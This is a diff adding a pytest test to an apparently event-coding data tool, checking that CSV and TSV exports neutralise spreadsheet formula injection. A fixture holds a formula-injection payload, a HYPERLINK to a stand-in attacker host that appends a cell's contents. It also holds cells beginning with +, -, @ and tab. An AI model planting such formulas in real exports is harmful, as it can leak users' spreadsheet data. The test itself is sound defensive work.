@@ -290,3 +290,18 @@ def test_ingest_reports_id_conflicts_and_skips_the_same_text(tmp_path, pattern_c
     assert "'r1' is already taken by a different text" in str(problems[0])
     assert notices == ["wire.jsonl:3: same text as document 'r1', not stored again"]
     assert "1 with the text of another id skipped" in summary.line()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_csv_and_tsv_cells_cannot_run_as_spreadsheet_formulas(fmt):
+    event = _event()
+    event.sentence = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    event.source = Actor("+Russia", "RUS", "GOV", "GOV", "-Russia", "dictionary")
+    event.target = Actor("@France", "FRA", "GOV", "GOV", "\tFrance", "dictionary")
+    out = io.StringIO()
+    write_events([event], fmt, out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue()), delimiter="," if fmt == "csv" else "\t"))
+    assert row["sentence"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert (row["source_text"], row["source_name"], row["target_text"]) == ("'+Russia", "'-Russia", "'@France")
+    assert row["target_name"].startswith("'")
+    assert row["goldstein"] == "-2.0"  # a number stays a number
